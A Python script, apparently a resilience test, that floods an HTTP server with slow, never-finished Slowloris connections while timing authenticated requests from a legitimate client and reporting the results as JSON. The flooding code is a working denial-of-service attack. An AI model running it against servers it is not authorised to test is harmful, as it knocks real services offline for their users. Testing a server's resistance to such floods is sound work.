#!/usr/bin/env python3
"""Slowloris against an HTTP server, with a legitimate client alongside.

usage: slowloris.py HOST PORT TOKEN CONNS SECONDS

Opens CONNS connections, each sending the start of a request and then one more byte of
an endless header every second; once they are open, a client makes one authenticated
request (GET /v1/agent/self, a fresh connection, 2 s timeout) every 0.25 s. It starts
after the opening burst: a request racing hundreds of connects is one newcomer among
them, and the server at its limit drops newcomers it has not read; what must hold is
that a held flood keeps nobody out. Bounded: SECONDS in
all, every socket operation non-blocking or with a timeout. Prints one JSON object:
{"opened", "closed_by_server", "first_close_s", "legit_ok", "legit_failed",
 "legit_max_ms", "first_failure", "failed_at_s"}.
"""
import http.client
import json
import selectors
import socket
import sys
import threading
import time


def legit(host, port, token, stop, out):
    while not stop.is_set():
        t0 = time.monotonic()
        try:
            c = http.client.HTTPConnection(host, port, timeout=2.0)
            c.request("GET", "/v1/agent/self", headers={"Authorization": "Bearer " + token})
            r = c.getresponse()
            r.read()
            c.close()
            ok = r.status == 200
            why = "HTTP %d" % r.status
        except (OSError, http.client.HTTPException) as e:
            ok, why = False, repr(e)
        ms = (time.monotonic() - t0) * 1000
        out["legit_max_ms"] = max(out["legit_max_ms"], round(ms, 1))
        if ok:
            out["legit_ok"] += 1
        else:
            out["legit_failed"] += 1
            out["first_failure"] = out["first_failure"] or why
            out["failed_at_s"].append(round(time.monotonic() - out["start"], 2))
        stop.wait(0.25)


def main():
    host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    conns, seconds = int(sys.argv[4]), float(sys.argv[5])
    start = time.monotonic()
    out = {"opened": 0, "closed_by_server": 0, "first_close_s": None, "legit_ok": 0,
           "legit_failed": 0, "legit_max_ms": 0.0, "first_failure": "", "failed_at_s": [],
           "start": start}
    stop = threading.Event()
    t = threading.Thread(target=legit, args=(host, port, token, stop, out))
    sel = selectors.DefaultSelector()
    socks = []
    for i in range(conns):
        s = socket.socket()
        s.settimeout(2.0)
        try:
            s.connect((host, port))
            s.sendall(b"GET /v1/agent/self HTTP/1.1\r\nHost: %s\r\nX-Slow: " % host.encode())
        except OSError:
            s.close()
            continue
        s.setblocking(False)
        socks.append(s)
        sel.register(s, selectors.EVENT_READ)
        out["opened"] += 1
    t.start()

    def closed(s):
        out["closed_by_server"] += 1
        if out["first_close_s"] is None:
            out["first_close_s"] = round(time.monotonic() - start, 2)
        sel.unregister(s)
        socks.remove(s)
        s.close()

    next_byte = time.monotonic() + 1.0
    while time.monotonic() - start < seconds:
        for key, _ in sel.select(timeout=0.1):
            try:
                data = key.fileobj.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:  # EOF or reset: the server let this one go
                closed(key.fileobj)
        if time.monotonic() >= next_byte:
            next_byte += 1.0
            for s in list(socks):
                try:
                    s.send(b"x")
                except BlockingIOError:
                    pass
                except OSError:
                    closed(s)
    stop.set()
    t.join(5)
    for s in socks:
        s.close()
    del out["start"]
    print(json.dumps(out))


if __name__ == "__main__":
    main()
